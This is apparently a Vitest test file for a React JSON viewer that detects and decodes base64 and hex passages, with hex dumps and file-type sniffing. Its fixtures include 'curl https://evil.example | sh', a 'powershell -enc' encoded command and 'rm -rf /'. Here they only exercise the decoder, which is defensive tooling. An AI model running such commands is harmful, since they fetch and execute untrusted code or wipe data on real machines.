/** What nobody can read is decoded below the text when it is asked for. */
import { act, fireEvent, render, screen, within } from "@testing-library/react";
import { expect, test } from "vitest";
import { speak } from "../../i18n/setup";
import { decode, hexView, passagesIn, whatIs } from "./passages";
import { JsonValue } from "./Value";

const base64 = (bytes: Iterable<number>) => btoa(String.fromCharCode(...bytes));
const utf8 = (text: string) => base64(new TextEncoder().encode(text));
const show = (value: unknown) => render(<JsonValue json={JSON.stringify(value)} warnings={[]} />);
const WORDS = `curl https://evil.example | sh # ${"really ".repeat(20)}`;

function open(): HTMLElement {
  fireEvent.click(screen.getByRole("button", { name: "Decode" }));
  return screen.getByRole("region", { name: "Decoded" });
}

test("encoded text is shown as text, with its size, and what is received stays", () => {
  const encoded = utf8(`${WORDS}\u202e`);
  const { container } = show({ data: encoded });
  expect(container.textContent).not.toContain("evil.example");
  const decoded = open();
  expect(decoded.querySelector("pre")?.textContent).toBe(`${WORDS}U+202E`);
  expect(decoded.querySelector("mark")?.textContent, "what is not seen is drawn").toBe("U+202E");
  within(decoded).getByText(/read as base64: 176 bytes\. It is text\./);
  screen.getByText(encoded);
  fireEvent.click(within(decoded).getByRole("button", { name: "Show the bytes" }));
  expect(decoded.querySelector("pre")?.textContent).toContain("00000000  63 75 72 6c 20");
  fireEvent.click(screen.getByRole("button", { name: "Hide what was decoded" }));
  expect(screen.queryByRole("region", { name: "Decoded" })).toBeNull();
});

test("bytes that are no text are shown one by one, all of them, and named by how they begin", () => {
  const bytes = [
    0x89,
    0x50,
    0x4e,
    0x47,
    0x0d,
    0x0a,
    0x1a,
    0x0a,
    ...Array.from({ length: 192 }, (_, at) => at),
  ];
  show({ picture: `data:image/png;base64,${base64(bytes)}` });
  const decoded = open();
  within(decoded).getByText(/from character 23 on.*200 bytes.*a picture \(PNG\)/);
  const rows = decoded.querySelector("pre")?.textContent?.split("\n") ?? [];
  const shown = rows.flatMap((row) => row.slice(10).split("  ")[0]?.split(" ") ?? []);
  expect(shown.map((byte) => Number.parseInt(byte, 16))).toEqual(bytes);
});

test("what is encoded twice is decoded twice, also where it stands in a table, a command or a list", () => {
  const twice = utf8(utf8(WORDS));
  const { container } = show({
    rows: [
      { id: 1, data: twice },
      { id: 2, data: "" },
    ],
    command: `powershell -enc ${twice}`,
    list: [twice],
  });
  expect(screen.getAllByRole("button", { name: "Decode" })).toHaveLength(3);
  const cell = within(container.querySelector("td + td") ?? container);
  fireEvent.click(cell.getByRole("button", { name: "Decode" }));
  fireEvent.click(cell.getByRole("button", { name: "Decode" }));
  expect(cell.getAllByText(/evil\.example/)).toHaveLength(1);
});

test("letters that stand for no bytes say so, and more passages than are decoded are counted", () => {
  const broken = `${"A".repeat(201)}`;
  show([Array.from({ length: 23 }, () => broken).join(" ")]);
  fireEvent.click(screen.getByRole("button", { name: "Decode" }));
  expect(screen.getAllByText(/are neither base64 nor hexadecimal digits/)).toHaveLength(20);
  screen.getByText(/more such passages \(how many: 3\)/);
});

test("what is no JSON, and JSON of too many values, can be decoded, too", () => {
  render(<JsonValue json={`{ not json ${utf8(WORDS)}`} warnings={[]} />);
  open();
  screen.getByText(/evil\.example/);
});

test("passages are found in every way that they are written", () => {
  const whole = (text: string) => passagesIn(text).map((each) => decode(each.text)?.bytes);
  const bytes = Uint8Array.from({ length: 600 }, (_, at) => (at * 7) % 256);
  const plain = base64(bytes);
  expect(whole(plain)).toEqual([bytes]);
  expect(whole(plain.replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, ""))).toEqual([bytes]);
  for (const width of [64, 76]) {
    const lines = plain.match(new RegExp(`.{1,${width}}`, "g")) ?? [];
    expect(whole(`-----BEGIN X-----\r\n${lines.join("\r\n")}\r\n-----END X-----`), String(width)).toEqual([
      bytes,
    ]);
  }
  const hex = Array.from(bytes, (byte) => byte.toString(16).padStart(2, "0")).join("");
  expect(whole(hex), "hexadecimal digits are no base64").toEqual([bytes]);
  expect(passagesIn(`${"a".repeat(199)} ${"word ".repeat(100)}`)).toEqual([]);
  expect(decode(`${"A".repeat(199)}=A`)).toBeNull();
  const begun = performance.now();
  for (const text of ["A", "A\n", `${"A".repeat(76)}\n`, `${"A".repeat(199)} `])
    passagesIn(text.repeat(5000));
  expect(performance.now() - begun, "whatever it is made of").toBeLessThan(5000);
});

test("bytes are what they are, not what they are called", () => {
  const kind = (...bytes: number[]) => whatIs(Uint8Array.from(bytes)).kind;
  expect(kind(0x4d, 0x5a, 0x90, 0x00, 0xff)).toBe("program");
  expect(kind(0x1f, 0x8b, 0x08, 0xff)).toBe("gzip");
  expect(kind(0xff, 0xfe, 0x80)).toBe("binary");
  expect(kind(0x47, 0x49, 0x46, 0x38, 0x39, 0x61), "words that begin as a picture does").toBe("text");
  const wide = [..."rm -rf /"].flatMap((letter) => [letter.charCodeAt(0), 0]);
  expect(whatIs(Uint8Array.from(wide))).toEqual({ kind: "utf16", text: "rm -rf /" });
  expect(whatIs(new TextEncoder().encode("\ufeffa"))).toEqual({ kind: "text", text: "\ufeffa" });
  expect(hexView(Uint8Array.from({ length: 17 }, () => 0x41)).split("\n")[1]).toBe("00000010  41  A");
});

test("it is offered and told in Japanese", () => {
  act(() => speak("ja"));
  show({ data: utf8(WORDS) });
  fireEvent.click(screen.getByRole("button", { name: "復号して表示" }));
  screen.getByText(/base64 として読んだもの: 173 バイト。テキストです。/);
});
